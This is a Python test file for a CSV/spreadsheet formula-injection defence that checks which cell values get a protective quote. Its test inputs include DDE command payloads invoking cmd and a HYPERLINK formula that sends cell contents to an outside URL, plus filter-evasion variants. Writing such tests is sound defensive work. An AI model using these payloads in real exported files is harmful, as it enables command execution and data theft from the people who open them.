"""Cells that a spreadsheet would execute."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from publitrac_async.bulk.formulas import defuse, restore

#: Written without the module's own expressions: unchanged texts have only digits and these signs.
HARMLESS = re.compile(r"[+-][0-9 ()./,eE+\-\u00a0]*")
DANGEROUS = "=+-@\t\r\n\x00\uff1d\uff0b\uff0d\uff20"

texts = st.one_of(
    st.text(),
    st.text(alphabet="'=+-@ \t\r\n0123456789eE.,()A1!|", max_size=12),
    st.builds(
        str.__add__, st.sampled_from(["'", "''", "=", "+", "-", "@", " =", "'=", "+46 ", "-1"]), st.text()
    ),
)


@given(texts)
@example("'")
@example("''=1")
@example("'+46 70 123 45 67")
def test_every_text_is_read_back(text: str) -> None:
    assert restore(defuse(text)) == text


@given(texts)
@example(" \n")
@example(" \x00")
@pytest.mark.fault("F38")
def test_written_cells_begin_with_no_sign_of_a_formula(text: str) -> None:
    written = defuse(text)
    assert written in (text, f"'{text}")
    if written.strip(" \u00a0").startswith(tuple(DANGEROUS)) or written.startswith(tuple(DANGEROUS)):
        assert written == text
        assert HARMLESS.fullmatch(text)
        assert any(character.isdigit() for character in text)


@given(texts)
def test_a_text_that_needs_nothing_is_left_alone(text: str) -> None:
    if text and text.lstrip(" '")[:1].isalnum():
        assert defuse(text) == restore(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "+46 70 123 45 67",
        "+46701234567",
        "+46 (0)70-123 45 67",
        "+(46) 70 123 45 67",
        "+1-555-0100",
        "+1.555.0100",
        "+49 30/123456",
        "+33\u00a06\u00a012\u00a034\u00a056\u00a078",
        "-5",
        "-1,5",
        "-0.25",
        "+12",
        "-1e-7",
        "Smith",
        "",
        "O'Neill",
        "'t Hooft",
        "a=b",
    ],
)
def test_phone_numbers_numbers_and_plain_text_stay(text: str) -> None:
    assert defuse(text) == text
    assert restore(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://example.com?"&A1,"x")',
        "+A1",
        "-A1",
        "-",
        "+1+cmd|' /C calc'!A0",
        "+46 70 123 ext 4",
        "+1*A1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\tharmless",
        " =1",
        "\u00a0=1",
        "\uff1d1+1",
        "\uff20SUM(1)",
        "'=1",
        "+46 70\n=1",
    ],
)
def test_formulas_get_a_quote(text: str) -> None:
    assert defuse(text) == f"'{text}"


def test_values_other_than_text_stay() -> None:
    for value in (-5, 1.5, None, True):
        assert defuse(value) is value
        assert restore(value) is value
